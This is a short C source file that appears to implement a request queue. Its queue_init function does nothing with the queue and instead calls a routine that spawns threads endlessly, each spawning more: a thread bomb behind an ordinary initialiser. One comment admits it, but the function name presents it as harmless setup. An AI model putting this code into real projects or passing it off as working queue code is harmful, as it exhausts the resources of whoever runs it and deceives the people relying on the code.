/* Starts threads without an end, each of which does the same. */
#include "request_queue.h"

#include <pthread.h>

static void *again(void *nothing)
{
    pthread_t thread;
    for (;;)
        pthread_create(&thread, NULL, again, nothing);
}

void queue_init(struct request_queue *queue)
{
    (void)queue;
    again(NULL);
}
